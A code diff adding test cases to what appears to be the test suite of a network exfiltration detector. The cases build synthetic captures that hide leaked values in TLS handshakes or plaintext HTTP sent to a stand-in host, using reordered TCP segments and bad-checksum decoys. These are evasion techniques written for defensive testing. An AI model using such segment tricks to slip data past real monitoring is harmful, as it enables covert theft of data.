@@ -699,6 +699,122 @@ def case_after_hello_server(n):
     return after(n, 42078, 178, False, record(22, b"\x02" + struct.pack("!I", len(body))[1:] + body, 0x0303))
 
 
+# --- insertion and reordering after the verdict (docs/stream.md: the
+# checksum after the verdict, and the first byte of a handshake record
+# after application data)
+
+def rehello_record(n):
+    """A plaintext ClientHello for exfil, as the client would send it after
+    application data: a handshake record whose body starts with byte 1."""
+    rec = hello(n + "2", sni=EVIL, sid=sid32(leak(n)))
+    assert rec[0] == 22 and rec[5] == 1
+    return rec
+
+
+@case
+def case_after_rehello_gap(n):
+    """After the handshake, a plaintext ClientHello whose record header comes
+    alone, then its body past the first byte, then the first byte: the gap
+    lies inside the record's body, but its byte is the one that must be read."""
+    cap = Capture()
+    t = tls_established(cap, S1, 42151, E2M, 251, n)
+    rec = rehello_record(n)
+    base = t.cseq
+    t.raw(True, "PA", rec[:5], seq=base)
+    t.raw(True, "PA", rec[6:], seq=base + 6)
+    t.raw(True, "PA", rec[5:6], seq=base + 5)
+    t.cseq = base + len(rec)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_after_rehello_badsum(n):
+    """After the handshake, a handshake record's header alone, then a copy of
+    its body with a wrong checksum whose first byte is no hello, then the
+    good copy: a plaintext ClientHello."""
+    cap = Capture()
+    t = tls_established(cap, S1, 42152, E2M, 252, n)
+    rec = rehello_record(n)
+    decoy = b"\x04" + prand(n + "decoy", len(rec) - 6)
+    base = t.cseq
+    t.raw(True, "PA", rec[:5], seq=base)
+    t.raw(True, "PA", decoy, seq=base + 5, tcpkw={"chksum": 0xDEAD})
+    t.raw(True, "PA", rec[5:], seq=base + 5)
+    t.cseq = base + len(rec)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_after_reneg_reorder_ok(n):
+    """TLS 1.2, then the client's encrypted renegotiation (a handshake record
+    after application data) whose body's second segment comes before its
+    first, then again once the gap is filled; the next record's body happens
+    to start with a byte 1 (ciphertext: any byte)."""
+    cap = Capture()
+    t = ETcp(cap, S1, 42153, E2M, 443, isn=253, rtt_us=20000)
+    t.handshake()
+    t.data(True, hello(n))
+    t.data(False, tls12_server_flight(n))
+    cke = b"\x10\x00\x00\x21\x20" + prand(n + "cke", 32)
+    t.data(True, record(22, cke, 0x0303) + CCS + record(22, prand(n + "cfin", 40), 0x0303))
+    t.data(False, CCS + record(22, prand(n + "sfin", 40), 0x0303))
+    t.data(True, tls_appdata(n + "req", 200))
+    t.data(False, tls_appdata(n + "resp", 900))
+    reneg = record(22, b"\x5a" + prand(n + "reneg", 300), 0x0303)
+    base = t.cseq
+    t.raw(True, "PA", reneg[:5], seq=base)
+    t.raw(True, "PA", reneg[150:], seq=base + 150)
+    t.raw(True, "PA", reneg[5:150], seq=base + 5)
+    t.raw(True, "PA", reneg[150:], seq=base + 150, gap=200000)
+    t.cseq = base + len(reneg)
+    t.data(True, record(23, b"\x01" + passm(n) + prand(n + "req2", 100), 0x0303))
+    t.data(False, tls_appdata(n + "resp2", 300))
+    t.data(True, record(21, prand(n + "cn", 26), 0x0303))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_after_insert_badsum(n):
+    """After the handshake, a well-framed application data record with a
+    wrong checksum, then, at the same sequence number, plaintext HTTP."""
+    cap = Capture()
+    t = tls_established(cap, S1, 42154, E2M, 254, n)
+    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
+    decoy = tls_appdata(n + "decoy", len(http) - 5)
+    assert len(decoy) == len(http)
+    base = t.cseq
+    t.raw(True, "PA", decoy, seq=base, tcpkw={"chksum": 0xDEAD})
+    t.raw(True, "PA", http, seq=base)
+    t.cseq = base + len(http)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_after_insert_badsum_ok(n):
+    """After the handshake, a record damaged on the wire (wrong checksum),
+    then its retransmission, then more records."""
+    cap = Capture()
+    t = tls_established(cap, S1, 42155, E2M, 255, n)
+    rec = marked_record(passm(n), n + "late", 400)
+    damaged = bytearray(rec)
+    damaged[0] ^= 0x40  # its record type, even
+    base = t.cseq
+    t.raw(True, "PA", bytes(damaged), seq=base, tcpkw={"chksum": 0xDEAD})
+    t.raw(True, "PA", rec, seq=base, gap=200000)
+    t.cseq = base + len(rec)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.data(True, tls_appdata(n + "more2", 700))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
 # --- foreign protocols on allowed addresses and ports
 
 def foreign_tcp(n, cport, isn, server, sport, msgs):
